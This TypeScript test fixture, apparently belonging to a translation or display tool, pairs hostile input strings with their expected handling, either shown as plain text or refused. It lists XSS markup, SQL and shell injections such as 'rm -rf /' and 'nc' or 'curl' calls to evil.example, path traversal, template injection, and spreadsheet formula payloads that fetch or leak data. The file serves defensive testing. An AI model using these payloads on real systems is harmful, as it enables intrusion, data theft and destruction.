import type { RefusedReason } from '../../../core/translation/returned-texts.ts';

/** Words that somebody may send on purpose: shown as they stand (`shown`), or refused with the reason. */
export type Attack = readonly [words: string, outcome: 'shown' | RefusedReason];

const all = (outcome: Attack[1], ...words: readonly string[]): readonly Attack[] =>
  words.map((each) => [each, outcome] as const);

/** @param to with this one */
function codePoints(from: number, to: number): readonly string[] {
  return Array.from({ length: to - from + 1 }, (_, index) => String.fromCodePoint(from + index));
}

/** The window shows text as text; markup in it is nothing but characters. */
const MARKUP = all(
  'shown',
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">Vidare</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">Vidare</a>',
  '<body onload=alert(1)>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<object data="x.swf"></object>',
  '<embed src="x.swf">',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import"//evil.example/x.css";</style>',
  '<form action=//evil.example><input name=a></form>',
  '<template><script>alert(1)</script></template>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  ']]><target>Annat</target>',
  '</target><target>Annat',
  '</t></is></c><c t="str"><f>1+1</f></c>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&amp;lt;b&amp;gt;',
  '&entity; &lol9;',
  '<?xml-stylesheet href="//evil.example/x.xsl"?>',
  '<!DOCTYPE x [<!ENTITY a "b">]>',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '`-alert(1)-`',
  'javascript:alert(1)',
  '\\u003cscript\\u003e',
  '%3Cscript%3E',
  '_x003C_script_x003E_',
  '_x005F_x003C_',
  '_X0041_ _x00e5_',
);

/** Attributes in which HTML runs a script. */
const HANDLERS = all(
  'shown',
  ...[
    ...['abort', 'animationend', 'animationstart', 'auxclick', 'beforeinput', 'beforetoggle', 'blur', 'canplay'],
    ...['change', 'click', 'close', 'contextmenu', 'copy', 'cuechange', 'cut', 'dblclick', 'drag', 'drop', 'ended'],
    ...['error', 'focus', 'focusin', 'formdata', 'hashchange', 'input', 'invalid', 'keydown', 'load', 'message'],
    ...['mouseover', 'pagehide', 'paste', 'play', 'pointerenter', 'popstate', 'readystatechange', 'reset', 'resize'],
    ...['scroll', 'search', 'select', 'slotchange', 'submit', 'toggle', 'transitionend', 'unload', 'wheel'],
  ].map((event) => `<x on${event}=alert(1) autofocus tabindex=1>`),
);

/** Addresses that are more than an address. */
const SCHEMES = all(
  'shown',
  ...['JaVaScRiPt', 'vbscript', 'data', 'blob', 'file', 'filesystem', 'view-source', 'chrome', 'app', 'ms-msdt'].map(
    (scheme) => `<a href="${scheme}:alert(1)">x</a>`,
  ),
);

/** What means something to another program than this one: a shell, a database, a log, a template. */
const OTHER_PROGRAMS = [
  ...all(
    'shown',
    "'; DROP TABLE texts; --",
    "' OR '1'='1",
    '" UNION SELECT 1,2,3 --',
    '$(reboot)',
    '`reboot`',
    '; rm -rf / #',
    '| nc evil.example 1',
    '&& curl evil.example',
    '../../../../etc/passwd',
    '..\\..\\windows\\win.ini',
    'file:///etc/passwd',
    'C:\\con\\con',
    '<%= 7*7 %>',
    '<?php system("id"); ?>',
    '[[7*7]]',
    '*)(uid=*))(|(uid=*',
    '!!python/object/apply:os.system [id]',
    '%x%x%x%x%n',
    '%s%s%s%s%s',
    'null',
    'undefined',
    'NaN',
    '-0',
    '1e999',
    '0x7fffffff',
    '[object Object]',
    'a,b;c"d\'e',
    '\\n\\r\\t\\0',
    'BEGIN:VCARD',
    '--boundary',
    '<xliff version="1.2">',
    '<ph id="1"/>',
    'Aa🙂',
    '𝐚𝐥𝐞𝐫𝐭(1)',
    '＜script＞',
    '＝1+1',
  ),
  ...all('strayBrace', '${jndi:ldap://evil.example/a}', '#{7*7}', '*{7*7}', '@{7*7}', '~{7*7}', '{% debug %}'),
  ...all('strayBrace', '{"__proto__":{"polluted":1}}', '{"$gt":""}', 'a{', '}a', '}}{{', '{{}}', "{{'a'}}"),
];

const FORMULAS = all(
  'shown',
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget evil.example)'!A0",
  '=1+1',
  '=HYPERLINK("http://evil.example?x="&A1,"Vidare")',
  '=IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '=DDE("cmd";"/C calc";"x")',
  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe!'",
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-2+3',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=A1',
  "'=1+1",
  '";=1+1;"',
  ',=1+1',
  '%0A-3+3',
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  'R1C1',
  '1/2',
  '2026-11-23',
  '1E5',
  '007',
  'TRUE',
  '#REF!',
);

/** What begins a formula, before what reaches out of a sheet. */
const REACHING = ['=', '+', '-', '@'].flatMap((start) =>
  all(
    'shown',
    ...[
      ...[
        'CALL("a","b","c")',
        'EXEC("calc")',
        'FILTERXML(A1,"//a")',
        'FORMULA("a")',
        'GOOGLEFINANCE("a")',
        'HYPERLINK(A1)',
      ],
      ...['IMAGE("//evil.example")', 'IMPORTDATA("//evil.example")', 'IMPORTFEED(A1)', 'IMPORTHTML(A1)'],
      ...['IMPORTRANGE(A1)', 'INDIRECT("A1")', 'MACRO(1)', 'REGISTER.ID("a","b")', 'RTD("a")', 'WEBSERVICE(A1)'],
    ].map((call) => `${start}${call}`),
  ),
);

const CONTROLS = [
  ...all(
    'controlCharacter',
    'Dölj\0det',
    'Dölj\u0001',
    'Dölj\u0007det',
    'Dölj\bdet',
    'Dölj\u001B[2Jdet',
    'Dölj\u007Fdet',
  ),
  ...all('controlCharacter', 'Dölj\ndet', 'Dölj\r\ndet', 'Dölj\tdet', 'Dölj\u0085det', 'Dölj\u009B2Jdet'),
  ...all('controlCharacter', 'Dölj\u2028det', 'Dölj\u2029det', 'D\uFFFDlj'),
  ...all('superfluousSpaces', ' Dölj', 'Dölj ', 'Dölj  det', 'Dölj\u00A0', '\tDölj', '\n=1+1', '\uFEFF=1+1'),
  ...all('empty', ' ', '\t', '\u00A0', '\u3000'),
];

/** Every control character of Latin-1, in the middle of a word. */
const EACH_CONTROL = all(
  'controlCharacter',
  ...[...codePoints(0x00, 0x1f), ...codePoints(0x7f, 0x9f)].map((character) => `Göm${character}det`),
);

/** Every space of Unicode behind a word; alone all of them are nothing. */
const EACH_SPACE = [...codePoints(0x2000, 0x200a), '\u1680', '\u202F', '\u205F', '\u3000'].flatMap((space) => [
  ...all('superfluousSpaces', `Göm${space}`),
  ...all('empty', `${space}${space}`),
]);

/** Every character of Unicode 15 that turns the direction of writing, at the beginning of a word. */
const EACH_BIDI_CONTROL = all(
  'bidiControl',
  ...['\u061C', ...codePoints(0x200e, 0x200f), ...codePoints(0x202a, 0x202e), ...codePoints(0x2066, 0x2069)].map(
    (character) => `${character}Göm`,
  ),
);

/** Every other character that formats and is not seen, in the middle of a word. */
const EACH_INVISIBLE = all(
  'invisibleCharacter',
  ...[
    ...['\u00AD', '\u06DD', '\u070F', '\u180E', '\uFEFF', '\u{E0001}', '\u{E007F}'],
    ...[...codePoints(0x0600, 0x0605), ...codePoints(0x200b, 0x200d), ...codePoints(0x2060, 0x2064)],
    ...[...codePoints(0x206a, 0x206f), ...codePoints(0xfff9, 0xfffb), ...codePoints(0x1d173, 0x1d17a)],
  ].map((character) => `Göm${character}det`),
);

/** A letter of each of many scripts, which may look like a Latin one or like nothing. */
const EACH_SCRIPT = all(
  'wrongScript',
  ...Array.from(
    'αдԱאاܐހߊࠀࡀअঅਅઅଅஅఅಅഅඅกກཀကაᄀአᎠᐁᚁᚠᜀᜠᝀᝠកᠠᢀᣰᤀᥐᦀᨀᨠᬅᮃᯀᰀᱚᲐⰀⲀⴰⶀぁァㄅ㐀ꀀꓐꔀꙀꚠꠀꡀꢂꤊꤰꦄꨀꪀꯀ가' +
      '𐀀𐊀𐊠𐌀𐌰𐍐𐎀𐎠𐐀𐑐𐒀𐒰𐔀𐔰𐘀𐠀𐡀𐡠𐢀𐤀𐤠𐦀𐦠𐨀𐩠𐪀𐫀𐬀𐭀𐭠𐮀𐰀𐲀𐴀𐼀𑀅𑂃𑃐𑄃𑆃𑈀𑊰𑌅𑒁𑖀𑘀𑚀𑜀𑢠𒀀𓀀𖠀𖭀𖼀𛀀𛅰𞤀',
  ).map((letter) => `Göm${letter}`),
);

/** Marks that stand on the letter before them and make no letter with it. */
const EACH_MARK = all('wrongScript', ...codePoints(0x0316, 0x0322).map((mark) => `Gq${mark}m`));

/** What is no character, and what everybody may use for something else. */
const NO_CHARACTERS = all(
  'wrongScript',
  ...[...codePoints(0xfdd0, 0xfdd7), '\uD801', '\uDBFF', '\uDC01', '\uDFFF', '\uE001', '\uF8FF', '\uFFFF'].map(
    (character) => `Göm${character}`,
  ),
  ...Array.from({ length: 16 }, (_, plane) => `Göm${String.fromCodePoint((plane + 1) * 0x10000 + 0xffff)}`),
);

const INVISIBLE = [
  ...all(
    'bidiControl',
    'Dölj\u202Edet',
    'Dölj\u202Ddet',
    'Dölj\u202Adet\u202C',
    'Dölj\u2066det\u2069',
    'Dölj\u2067det',
  ),
  ...all('bidiControl', 'Dölj\u2068det', 'Dölj\u200Edet', 'Dölj\u200Fdet', 'Dölj\u061Cdet'),
  ...all(
    'invisibleCharacter',
    'Dölj\u200Bdet',
    'Dölj\u200Cdet',
    'Dölj\u200Ddet',
    'Dölj\u2060det',
    'D\u00ADölj',
    'D\uFEFFölj',
  ),
  ...all('invisibleCharacter', 'Dölj\u2062det', 'Dölj\u{E0041}\u{E007F}', '👩\u200D👩'),
];

const SCRIPTS = [
  ...all(
    'wrongScript',
    'D\u043Elj',
    'Dölj \u0430',
    '\u03BDidare',
    'לסגור',
    'إخفاء',
    '隠す',
    '\u115F',
    '\u3164',
    'D\u034Flj',
  ),
  ...all(
    'wrongScript',
    'D\uD800lj',
    'D\uDC00lj',
    'D\uE000lj',
    'D\u{10FFFF}lj',
    'D\uFFFElj',
    'Z\u0335\u0321\u0356',
    'D\u2800lj',
  ),
  ...all('notComposed', 'Do\u0308lj', 'A\u030A', 'e\u0301'),
];

const PLACEHOLDERS = [
  ...all('placeholders', '{{name}}', '{{__proto__}}', '{{constructor}}', '{{a}}{{a}}', '{{{a}}}'),
  ...all(
    'strayBrace',
    '{name}',
    '{{name',
    'name}}',
    '{{- name}}',
    '{{ name }}',
    '{{name, uppercase}}',
    '{{a.b}}',
    '{0}',
  ),
  ...all(
    'strayBrace',
    '${name}',
    '#{name}',
    '{n, plural, one {en} other {flera}}',
    '{{constructor.constructor("x")()}}',
  ),
  ...all('otherText', '$t(kiosk.hide)', 'Dölj $t(desk.pin)', '$t(kiosk.hide, "count")'),
  ...all(
    'placeholders',
    ...['toString', 'valueOf', 'hasOwnProperty', 'isPrototypeOf', '__defineGetter__', '__lookupSetter__'].map(
      (name) => `{{${name}}}`,
    ),
  ),
  ...all('shown', 'toString', 'valueOf', 'isPrototypeOf', '__defineGetter__', '__lookupSetter__', 'prototype', 'eval'),
  ...all('otherText', '$t(', '$t(__proto__)', '$t(constructor)', '$t(kiosk.hide) $t(kiosk.more)'),
  ...all('shown', '$T(kiosk.hide)', '$ t(kiosk.hide)', 't(kiosk.hide)'),
  ...all('shown', '%s %d %n', '$name', '$1 $& $`', '%(name)s', ':name', '__proto__', 'constructor', 'hasOwnProperty'),
];

const HUGE = [
  ...all('shown', 'b'.repeat(2000), 'å'.repeat(2000), '<b>'.repeat(666), '=1+1;'.repeat(400)),
  ...all('tooLong', 'a'.repeat(2001), '😀'.repeat(1001), '=1+1;'.repeat(200_000), '<b>'.repeat(100_000)),
];

const LABELS = all(
  'labelsAPerson',
  'Är du missbrukare?',
  'PATIENT',
  'Klienten',
  'En patient!',
  'missbrukaren',
  'Knarkare',
  'alkoholisten',
  'narkomanen',
);

export const ATTACKS: readonly Attack[] = [
  ...MARKUP,
  ...HANDLERS,
  ...SCHEMES,
  ...OTHER_PROGRAMS,
  ...FORMULAS,
  ...REACHING,
  ...CONTROLS,
  ...EACH_CONTROL,
  ...EACH_SPACE,
  ...EACH_BIDI_CONTROL,
  ...EACH_INVISIBLE,
  ...EACH_SCRIPT,
  ...EACH_MARK,
  ...NO_CHARACTERS,
  ...INVISIBLE,
  ...SCRIPTS,
  ...PLACEHOLDERS,
  ...HUGE,
  ...LABELS,
];

/** What XML cannot hold comes back as a lost letter, which is refused whatever else is wrong. */
const NO_XML = /[^\t\n\r\u0020-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/u;

export function losesLetters(words: string): boolean {
  return NO_XML.test(words);
}
